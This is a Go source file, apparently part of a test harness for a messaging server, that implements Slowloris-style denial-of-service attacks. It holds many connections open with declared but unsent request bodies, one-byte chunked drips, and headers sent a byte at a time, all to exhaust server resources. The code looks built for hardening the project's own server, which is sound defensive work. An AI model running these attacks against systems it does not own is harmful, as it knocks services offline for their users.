package attack

import (
	"context"
	"fmt"
	"io"
	"net"
	"strconv"
	"time"

	"github.com/bluesky-social/indigo/atproto/syntax"

	"mlsd/api/mlsapi"
	. "mlsd/clientsim/steps"
	"mlsd/clientsim/xrpc"
)

// H3: uploads whose bodies do not arrive hold memory, connections and goroutines.
func bodies() []Attack {
	return []Attack{
		{"bodies", "H3", "1,024 connections of 8 DIDs declare 256 KiB and send nothing",
			slowBodies(1024, 8, 1, declared(256<<10))},
		{"bodies-large", "H3", "256 connections of 32 DIDs at 32 addresses declare 8 MiB and send nothing",
			slowBodies(256, 32, 32, declared(8<<20))},
		{"bodies-small", "H3", "2,048 connections of 8 DIDs declare 16 KiB and send nothing",
			slowBodies(2048, 8, 1, declared(16<<10))},
		{"bodies-chunked", "H3", "512 connections of 16 DIDs send chunks of one byte per second",
			slowBodies(512, 16, 1, chunked)},
		{"bodies-refused", "H3", "1,024 connections without a valid token declare 1 MiB and send nothing", unreadBodies},
		{"headers", "H3", "1,024 connections send one byte of a header per second", slowHeaders},
	}
}

// upload is the part of a request after its common headers, and what the attacker sends each second
// after that.
type upload struct {
	head, drop string
	methods    []string // used in turn
}

func declared(n int) upload {
	return upload{head: fmt.Sprintf("Content-Length: %d\r\n\r\n", n), methods: []string{mlsapi.NSIDSendMessage}}
}

// A chunked body declares no length, so the server must reckon with the longest body that the
// method accepts.
var chunked = upload{
	head: "Transfer-Encoding: chunked\r\n\r\n", drop: "1\r\n \r\n",
	methods: []string{mlsapi.NSIDSendMessage, mlsapi.NSIDUpdateCursor},
}

// heldFor is how long an attacker keeps a connection on which the server sends nothing.
const heldFor = 30 * time.Second

// slowBodies holds n uploads of several DIDs from several addresses. When an upload ends, a new one
// replaces it.
func slowBodies(n, dids, addresses int, u upload) prepare {
	return func(_ context.Context, t *Target) *Prepared {
		accounts := t.accounts(dids)
		return &Prepared{Run: func(ctx context.Context) {
			t.hold(ctx, n, func(i int) (int, string, string) {
				method := u.methods[i/dids%len(u.methods)]
				token := Must(accounts[i%dids].Token(t.Audience, syntax.NSID(method)))
				return i % addresses, t.header("POST", method, token) + u.head, u.drop
			})
		}}
	}
}

func unreadBodies(_ context.Context, t *Target) *Prepared {
	return &Prepared{Run: func(ctx context.Context) {
		t.hold(ctx, 1024, func(i int) (int, string, string) {
			return i % 4, t.header("POST", mlsapi.NSIDSendMessage, "none") + declared(1<<20).head, ""
		})
	}}
}

func slowHeaders(_ context.Context, t *Target) *Prepared {
	return &Prepared{Run: func(ctx context.Context) {
		t.hold(ctx, 1024, func(i int) (int, string, string) {
			return i % 4, "GET /xrpc/_health HTTP/1.1\r\nHost: " + t.Addr + "\r\nX-Slow: ", "a"
		})
	}}
}

// hold keeps n connections, each with a request that does not end. next returns the client address,
// the beginning of the request, and what to send each second.
func (t *Target) hold(ctx context.Context, n int, next func(i int) (address int, head, drop string)) {
	Each(n, n, func(i int) {
		for ctx.Err() == nil {
			address, head, drop := next(i)
			t.tried()
			t.answered(t.holdOne(ctx, address, head, drop))
			xrpc.Sleep(ctx, time.Second/2)
		}
	})
}

// holdOne makes one request that does not end, until the server answers or closes the connection.
// It returns the status of the answer. 0 means that there was no answer.
func (t *Target) holdOne(ctx context.Context, address int, head, drop string) (status int) {
	conn, end, err := t.open(ctx, address, head)
	if err != nil {
		return 0
	}
	defer end()
	if drop != "" {
		feeding, stop := context.WithCancel(ctx)
		defer stop()
		go feed(feeding, conn, drop)
	}
	if err := conn.SetReadDeadline(time.Now().Add(heldFor)); err != nil {
		return 0
	}
	if status = readStatus(conn); status == 0 {
		return 0
	}
	// Even after the answer, the request holds the connection while its body does not arrive.
	_, _ = io.Copy(io.Discard, conn)
	return status
}

// readStatus reads the beginning of an answer, such as "HTTP/1.1 503", and returns its status. 0
// means that no answer came.
func readStatus(conn net.Conn) (status int) {
	line := make([]byte, len("HTTP/1.1 503"))
	if _, err := io.ReadFull(conn, line); err != nil {
		return 0
	}
	status, err := strconv.Atoi(string(line[9:]))
	if err != nil {
		return 0
	}
	return status
}

// feed writes drop once per second until a write fails.
func feed(ctx context.Context, conn net.Conn, drop string) {
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for {
		select {
		case <-tick.C:
		case <-ctx.Done():
			return
		}
		if _, err := io.WriteString(conn, drop); err != nil {
			return
		}
	}
}
